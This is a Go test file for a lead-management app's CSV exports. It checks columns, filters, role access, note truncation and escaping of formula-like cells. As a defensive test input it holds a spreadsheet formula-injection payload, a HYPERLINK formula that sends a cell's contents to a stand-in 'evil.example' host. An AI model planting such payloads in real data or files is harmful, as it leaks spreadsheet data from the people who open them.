package web_test

import (
	"context"
	"encoding/csv"
	"fmt"
	"net/http"
	"slices"
	"strconv"
	"strings"
	"testing"
	"time"
	"unicode/utf16"

	"github.com/qualdial/qualdial/scripts"
	"github.com/qualdial/qualdial/store"
)

// sheet is a CSV export as a spreadsheet reads it.
type sheet struct {
	header []string
	rows   []map[string]string
	ids    []int64
}

// export fetches path as b and reads it as CSV after its UTF-8 BOM, which
// it must start with.
func export(t *testing.T, b *browser, path string) (reply, *sheet) {
	t.Helper()
	r := b.do("GET", path, nil)
	if r.status != http.StatusOK {
		return r, nil
	}
	body, ok := strings.CutPrefix(r.body, "\uFEFF")
	if !ok {
		t.Fatalf("%s does not start with a UTF-8 BOM: %q", path, r.body[:min(len(r.body), 20)])
	}
	records, err := csv.NewReader(strings.NewReader(body)).ReadAll()
	if err != nil || len(records) == 0 {
		t.Fatalf("%s is not CSV: %v\n%s", path, err, body)
	}
	sh := &sheet{header: records[0]}
	for _, rec := range records[1:] {
		row := map[string]string{}
		for i, name := range sh.header {
			row[name] = rec[i]
		}
		id, err := strconv.ParseInt(row["id"], 10, 64)
		if err != nil {
			t.Fatalf("%s: a row without an id: %v", path, rec)
		}
		sh.rows = append(sh.rows, row)
		sh.ids = append(sh.ids, id)
	}
	return r, sh
}

// dated reports whether s is format with the UTC date of from or to (a
// request across midnight).
func dated(s, format string, from, to time.Time) bool {
	return s == fmt.Sprintf(format, from.UTC().Format(time.DateOnly)) || s == fmt.Sprintf(format, to.UTC().Format(time.DateOnly))
}

// row is the sheet's row of lead id.
func (sh *sheet) row(t *testing.T, id int64) map[string]string {
	t.Helper()
	i := slices.Index(sh.ids, id)
	if i < 0 {
		t.Fatalf("lead %d is not in the export (%v)", id, sh.ids)
	}
	return sh.rows[i]
}

// TestInboxExport: the inbox's export has the lead's fields, a column per
// dimension and per question of the leads' two scripts (the answers in
// words), the notes; it starts with a BOM, every cell is formula-safe;
// with each filter it lists exactly what the inbox lists; a bad filter is
// a 400 naming it, other roles get 403.
func TestInboxExport(t *testing.T) {
	t.Parallel()
	s := newSite(t)
	ctx := context.Background()
	bant := bantCampaign(t, s, "spring")
	anumSrc, _ := scripts.Read("anum-en")
	anum := scriptCampaign(t, s, "webinar", string(anumSrc))
	rep := s.user(t, store.RoleSales, "rep@example.com")
	other := s.user(t, store.RoleSales, "other@example.com")
	repID, otherID := userNamed(t, s, "rep@example.com").ID, userNamed(t, s, "other@example.com").ID

	evil := `=HYPERLINK("https://evil.example/?x="&A1,"Click")`
	hot := calledLead(t, s, bant, store.LeadParams{Phone: "+12125550101", FirstName: evil, Company: "Acme", Email: "ann@acme.example",
		TimeZone: "America/New_York", Source: "web_form", Attributes: map[string]string{"seats": "120"}}, "1", "1", "1", "1", "1")
	webinar := scriptedLead(t, s, anum, "anum-en", store.LeadParams{Phone: "+442071838750", FirstName: "Zoë", LastName: "Ng", Company: "Ünïcode Ltd"},
		"1", "1", "1", "1", "1")
	cold := calledLead(t, s, bant, store.LeadParams{Phone: "+12125550102", FirstName: "Bo"}, "1", "1", "2", "2", "5#", "3") // mql: nurture
	theirs := calledLead(t, s, bant, store.LeadParams{Phone: "+12125550103", FirstName: "Theo"}, "1", "1", "1", "1", "300#", "1")
	late := calledLead(t, s, bant, store.LeadParams{Phone: "+12125550104", FirstName: "Lena"}, "1", "1", "1", "1", "300#", "1")
	if _, err := s.st.Pool().Exec(ctx, `UPDATE leads SET sla_due_at = $2 WHERE id = $1`, late, s.st.Now().Add(-time.Hour)); err != nil {
		t.Fatal(err)
	}
	// The rep claims the hot lead and contacts it, with notes; the other
	// rep claims theirs.
	claim := func(lead, user int64) {
		t.Helper()
		if _, err := s.st.Pool().Exec(ctx, `UPDATE leads SET sales_stage = 'accepted', assigned_to = $2, accepted_at = $3 WHERE id = $1`,
			lead, user, s.st.Now()); err != nil {
			t.Fatal(err)
		}
	}
	claim(hot, repID)
	if _, err := s.st.Transition(ctx, hot, store.SalesActor{UserID: repID}, store.ActionContacted, nil); err != nil {
		t.Fatal(err)
	}
	for _, text := range []string{"Called back, wants a demo on Friday.", "=SUM(1,2) seats, \"quoted\"\nsecond line"} {
		if err := s.st.AddEvent(ctx, s.st.Pool(), hot, fmt.Sprintf("user:%d", repID), store.EventLeadNote, map[string]any{"text": text}); err != nil {
			t.Fatal(err)
		}
	}
	claim(theirs, otherID)

	day := s.st.Now()
	r, sh := export(t, rep, "/inbox/export.csv")
	if sh == nil {
		t.Fatalf("export: %d %s", r.status, r.body)
	}
	if ct, cd := r.header.Get("Content-Type"), r.header.Get("Content-Disposition"); ct != "text/csv; charset=utf-8" ||
		!dated(cd, `attachment; filename="inbox-%s.csv"`, day, s.st.Now()) {
		t.Errorf("headers: %q %q", ct, cd)
	}
	// The columns: the lead's, then the two scripts' dimensions and
	// questions, scripts by id (anum-en, then bant-en), each in its order.
	want := []string{"id", "external_id", "campaign_id", "campaign", "name", "company", "email", "phone", "source", "status",
		"class", "route", "total", "sales_stage", "claimed_by", "sla_due_at", "contacted_at", "sla_met", "local_zone", "script",
		"score_authority", "score_need", "score_urgency", "score_money", "score_budget", "score_timeline",
		"answer_intro", "answer_authority", "answer_need", "answer_urgency", "answer_money", "answer_role", "answer_budget", "answer_seats", "answer_timeline",
		"notes"}
	if !slices.Equal(sh.header, want) {
		t.Errorf("header:\n%v\nwant\n%v", sh.header, want)
	}

	// Values, as the store recorded them.
	hotLead, err := store.GetLead(ctx, s.st.Pool(), hot)
	if err != nil {
		t.Fatal(err)
	}
	hotScores, err := s.st.GetLeadDetail(ctx, hot)
	if err != nil {
		t.Fatal(err)
	}
	var contactedAt time.Time
	var notesAt []time.Time
	if err := s.st.Pool().QueryRow(ctx, `SELECT contacted_at, array_agg(e.at ORDER BY e.at, e.id) FROM leads l JOIN lead_events e ON e.lead_id = l.id
		WHERE l.id = $1 AND e.kind = 'lead.note' GROUP BY 1`, hot).Scan(&contactedAt, &notesAt); err != nil {
		t.Fatal(err)
	}
	row := sh.row(t, hot)
	for col, v := range map[string]string{
		"name": "'" + evil, "company": "Acme", "email": "ann@acme.example", "phone": "'+12125550101", "source": "web_form",
		"campaign": "spring", "campaign_id": strconv.FormatInt(bant.ID, 10), "status": "completed", "class": "sql", "route": "sales",
		"total": strconv.Itoa(*hotLead.Total), "sales_stage": "contacted", "claimed_by": "rep@example.com",
		"sla_due_at": hotLead.SLADueAt.UTC().Format(time.RFC3339), "contacted_at": contactedAt.UTC().Format(time.RFC3339),
		"sla_met": "yes", "local_zone": "America/New_York", "script": "bant-en v3",
		"score_budget": strconv.Itoa(hotScores.Scores["budget"]), "score_authority": strconv.Itoa(hotScores.Scores["authority"]),
		"score_need": strconv.Itoa(hotScores.Scores["need"]), "score_timeline": strconv.Itoa(hotScores.Scores["timeline"]),
		"score_urgency": "", "score_money": "",
		"answer_intro": "1: next question role", "answer_role": "1: for a company; next question budget", "answer_budget": "1: budget approved; next question authority; budget +30",
		"answer_authority": "1: decides; next question seats; authority +25",
		"answer_seats":     "120#: 120, in 10–249; next question timeline; need +15 (from the form)",
		"answer_timeline":  "1: deciding this month; ending end; timeline +20", "answer_urgency": "", "answer_need": "", "answer_money": "",
		"notes": notesAt[0].UTC().Format("2006-01-02 15:04 UTC") + " rep@example.com: Called back, wants a demo on Friday.\n" +
			notesAt[1].UTC().Format("2006-01-02 15:04 UTC") + " rep@example.com: =SUM(1,2) seats, \"quoted\"\nsecond line",
	} {
		if row[col] != v {
			t.Errorf("hot lead's %s: %q, want %q", col, row[col], v)
		}
	}
	row = sh.row(t, webinar)
	for col, v := range map[string]string{
		"name": "Zoë Ng", "company": "Ünïcode Ltd", "phone": "'+442071838750", "campaign": "webinar", "script": "anum-en v2",
		"claimed_by": "", "contacted_at": "", "sla_met": "", "sales_stage": "open", "local_zone": "Europe/London",
		"score_authority": "30", "score_need": "30", "score_urgency": "25", "score_money": "20", "score_budget": "", "score_timeline": "",
		"answer_authority": "1: decides; next question need; authority +30", "answer_money": "1: can fund a paid plan; ending end; money +20",
		"answer_budget": "", "answer_role": "", "answer_seats": "", "notes": "",
	} {
		if row[col] != v {
			t.Errorf("webinar lead's %s: %q, want %q", col, row[col], v)
		}
	}
	// Every cell is formula-safe: none starts with what a spreadsheet runs,
	// unless it is only a number.
	for _, row := range sh.rows {
		for col, v := range row {
			if v != "" && strings.ContainsRune("=+-@\t\r", rune(v[0])) {
				if _, err := strconv.Atoi(v); err != nil {
					t.Errorf("lead %s: %s %q would run as a formula", row["id"], col, v)
				}
			}
		}
	}

	// Each filter gives what the inbox lists with the same query (every
	// page: here one), in its order; the nurture lead is never there.
	bantQ, anumQ := "campaign="+strconv.FormatInt(bant.ID, 10), "campaign="+strconv.FormatInt(anum.ID, 10)
	for _, tc := range []struct {
		b     *browser
		query string
		want  []int64
	}{
		{rep, "", []int64{late, hot, webinar, theirs}},
		{rep, "show=mine", []int64{hot}},
		{other, "show=mine", []int64{theirs}},
		{rep, "show=unclaimed", []int64{late, webinar}},
		{rep, "show=breached", []int64{late}},
		{rep, bantQ, []int64{late, hot, theirs}},
		{rep, "show=unclaimed&" + anumQ, []int64{webinar}},
		{rep, "class=sql", []int64{late, hot, webinar, theirs}},
		{rep, "class=sql&" + anumQ, []int64{webinar}},
		{rep, "show=unclaimed&class=sql&" + bantQ, []int64{late}},
	} {
		r, sh := export(t, tc.b, "/inbox/export.csv?"+tc.query)
		if sh == nil {
			t.Errorf("%s: %d %s", tc.query, r.status, r.body)
			continue
		}
		if !slices.Equal(sh.ids, tc.want) {
			t.Errorf("%s: %v, want %v", tc.query, sh.ids, tc.want)
		}
		if slices.Contains(sh.ids, cold) {
			t.Errorf("%s: the nurture lead is exported", tc.query)
		}
		if ids, _ := inboxRows(t, tc.b.do("GET", "/inbox?"+tc.query, nil).body); !slices.Equal(ids, sh.ids) {
			t.Errorf("%s: the inbox lists %v, the export %v", tc.query, ids, sh.ids)
		}
	}
	// A rep never gets another rep's claim as theirs, nor a lead another
	// rep took out of sales.
	if _, err := s.st.Transition(ctx, theirs, store.SalesActor{UserID: otherID}, store.ActionRecycle, nil); err != nil {
		t.Fatal(err)
	}
	for _, q := range []string{"", "show=mine", bantQ} {
		if _, sh := export(t, rep, "/inbox/export.csv?"+q); sh == nil || slices.Contains(sh.ids, theirs) {
			t.Errorf("%s: the rep gets the other rep's recycled lead", q)
		}
	}

	// Bad filters: 400, each named.
	for query, wants := range map[string][]string{
		"show=everything&campaign=x":         {`show "everything" is not a view of the inbox`, `campaign "x" is not a campaign's number`},
		"campaign=999999":                    {`campaign "999999" is not a campaign's number`},
		"class=mql":                          {`class "mql" is not a class of the leads in the inbox: choose one from the list (sql)`},
		"class=" + strings.Repeat("x", 5000): {"is not a class"},
	} {
		r := rep.do("GET", "/inbox/export.csv?"+query, nil)
		if r.status != http.StatusBadRequest {
			t.Errorf("%.40s: %d", query, r.status)
		}
		for _, w := range wants {
			if !strings.Contains(r.body, w) {
				t.Errorf("%.40s: %q lacks %q", query, r.body, w)
			}
		}
	}

	// Roles: sales and admin only.
	mkt := s.user(t, store.RoleMarketing, "mkt@example.com")
	if r := mkt.do("GET", "/inbox/export.csv", nil); r.status != http.StatusForbidden {
		t.Errorf("marketing: %d", r.status)
	}
	if r := s.browser(t).do("GET", "/inbox/export.csv", nil); r.status != http.StatusSeeOther {
		t.Errorf("anonymous: %d", r.status)
	}
	admin := s.user(t, store.RoleAdmin, "admin@example.com")
	if _, sh := export(t, admin, "/inbox/export.csv?show=unclaimed"); sh == nil || !slices.Equal(sh.ids, []int64{late, webinar}) {
		t.Errorf("admin: %v", sh)
	}
}

// TestCampaignLeadsExport: a campaign's leads as CSV for marketing, with
// the leads table's filters; a bad filter is a 400, sales gets 403.
func TestCampaignLeadsExport(t *testing.T) {
	t.Parallel()
	s := newSite(t)
	ctx := context.Background()
	c := bantCampaign(t, s, "spring")
	hot := calledLead(t, s, c, store.LeadParams{Phone: "+12125550101", FirstName: "Ann"}, "1", "1", "1", "1", "300#", "1")
	cold := calledLead(t, s, c, store.LeadParams{Phone: "+12125550102", FirstName: "Bo"}, "1", "1", "2", "2", "5#", "3")
	waiting, _, err := s.st.InsertLead(ctx, s.st.Pool(), store.LeadParams{CampaignID: c.ID, Phone: "+12125550103", FirstName: "Wes"})
	if err != nil {
		t.Fatal(err)
	}
	// Notes longer than a spreadsheet cell holds.
	if err := s.st.AddEvent(ctx, s.st.Pool(), hot, "user:1", store.EventLeadNote, map[string]any{"text": strings.Repeat("Ünïcode 😀 ", 4000)}); err != nil {
		t.Fatal(err)
	}
	mkt := s.user(t, store.RoleMarketing, "mkt@example.com")
	path := fmt.Sprintf("/campaigns/%d/leads.csv", c.ID)

	day := s.st.Now()
	r, sh := export(t, mkt, path)
	if sh == nil {
		t.Fatalf("export: %d %s", r.status, r.body)
	}
	if cd := r.header.Get("Content-Disposition"); !dated(cd, fmt.Sprintf(`attachment; filename="campaign-%d-leads-%%s.csv"`, c.ID), day, s.st.Now()) {
		t.Errorf("Content-Disposition %q", cd)
	}
	if !slices.Equal(sh.ids, []int64{hot, cold, waiting}) {
		t.Errorf("leads %v, want %v", sh.ids, []int64{hot, cold, waiting})
	}
	// One script: its dimensions and questions in its order (the README's
	// example).
	if h := strings.Join(sh.header, ","); h != "id,external_id,campaign_id,campaign,name,company,email,phone,source,status,class,route,total,"+
		"sales_stage,claimed_by,sla_due_at,contacted_at,sla_met,local_zone,script,score_budget,score_authority,score_need,score_timeline,"+
		"answer_intro,answer_role,answer_budget,answer_authority,answer_seats,answer_timeline,notes" {
		t.Errorf("header %s", h)
	}
	if notes := sh.row(t, hot)["notes"]; len(utf16.Encode([]rune(notes))) > 32767 || !strings.HasSuffix(notes, "… (cut: the rest is on the lead page)") ||
		!strings.Contains(notes, " mkt@example.com: Ünïcode 😀 ") { // user 1 is mkt
		t.Errorf("a long note: %d UTF-16 units, ends %q", len(utf16.Encode([]rune(notes))), notes[max(0, len(notes)-60):])
	}
	if row := sh.row(t, cold); row["class"] != "mql" || row["route"] != "nurture" || row["answer_seats"] != "5#: 5, in 0–9; next question timeline; need +5" {
		t.Errorf("cold lead: %v", row)
	}
	if row := sh.row(t, waiting); row["status"] != "new" || row["script"] != "" || row["answer_budget"] != "" || row["score_budget"] != "" {
		t.Errorf("waiting lead: %v", row)
	}
	for q, want := range map[string][]int64{"class=mql": {cold}, "status=completed&class=sql": {hot}, "status=new": {waiting}} {
		if _, sh := export(t, mkt, path+"?"+q); sh == nil || !slices.Equal(sh.ids, want) {
			t.Errorf("%s: %v, want %v", q, sh, want)
		}
	}
	for q, want := range map[string]string{"status=gone": `status "gone" is not a lead status`, "class=vip": `class "vip" is not a class of the campaign's script`} {
		if r := mkt.do("GET", path+"?"+q, nil); r.status != http.StatusBadRequest || !strings.Contains(r.body, want) {
			t.Errorf("%s: %d %q", q, r.status, r.body)
		}
	}
	if r := mkt.do("GET", "/campaigns/999999/leads.csv", nil); r.status != http.StatusNotFound {
		t.Errorf("no such campaign: %d", r.status)
	}
	rep := s.user(t, store.RoleSales, "rep@example.com")
	if r := rep.do("GET", path, nil); r.status != http.StatusForbidden {
		t.Errorf("sales: %d", r.status)
	}
	admin := s.user(t, store.RoleAdmin, "admin@example.com")
	if _, sh := export(t, admin, path); sh == nil || len(sh.ids) != 3 {
		t.Errorf("admin: %v", sh)
	}
	// A script's labels word the answers (the shipped bant-en's).
	lc := bantCampaign(t, s, "labelled")
	labelled := readyLead(t, s, lc, "Lab", "+12125550109", "300")
	if _, sh := export(t, mkt, fmt.Sprintf("/campaigns/%d/leads.csv", lc.ID)); sh == nil ||
		sh.row(t, labelled)["answer_budget"] != "1: budget approved; next question authority; budget +30" ||
		sh.row(t, labelled)["answer_seats"] != "300#: 300, in 250–999999; next question timeline; need +25" {
		t.Errorf("labelled: %v", sh)
	}
}

// TestExportReadsRecordedVersion: answers are read with the script version
// their result recorded, kept as a saved version, even after the campaign
// moved to another; a lead without a result gets its campaign's script.
func TestExportReadsRecordedVersion(t *testing.T) {
	t.Parallel()
	s := newSite(t)
	ctx := context.Background()
	c := bantCampaign(t, s, "spring")
	hot := calledLead(t, s, c, store.LeadParams{Phone: "+12125550101", FirstName: "Ann"}, "1", "1", "1", "1", "300#", "1")
	src, _ := scripts.Read("bant-en")
	if _, err := s.st.AddScriptVersion(ctx, store.NewScriptVersion{ScriptID: "bant-en", Version: 3, YAML: string(src)}); err != nil {
		t.Fatal(err)
	}
	edited := strings.ReplaceAll(strings.Replace(string(src), "version: 3", "version: 4", 1), "timeline", "decision")
	if err := s.st.SetCampaignScript(ctx, c.ID, edited); err != nil {
		t.Fatal(err)
	}
	mkt := s.user(t, store.RoleMarketing, "mkt@example.com")
	path := fmt.Sprintf("/campaigns/%d/leads.csv", c.ID)
	_, sh := export(t, mkt, path)
	if sh == nil || slices.Contains(sh.header, "answer_decision") {
		t.Fatalf("header %v", sh)
	}
	if row := sh.row(t, hot); row["answer_timeline"] != "1: deciding this month; ending end; timeline +20" || row["score_timeline"] != "20" {
		t.Errorf("read with another version: %v", row)
	}
	waiting, _, err := s.st.InsertLead(ctx, s.st.Pool(), store.LeadParams{CampaignID: c.ID, Phone: "+12125550103", FirstName: "Wes"})
	if err != nil {
		t.Fatal(err)
	}
	_, sh = export(t, mkt, path)
	if sh == nil || !slices.Contains(sh.header, "answer_decision") || !slices.Contains(sh.header, "answer_timeline") ||
		!slices.Contains(sh.ids, waiting) {
		t.Errorf("with a lead without a result: %v", sh)
	}
}
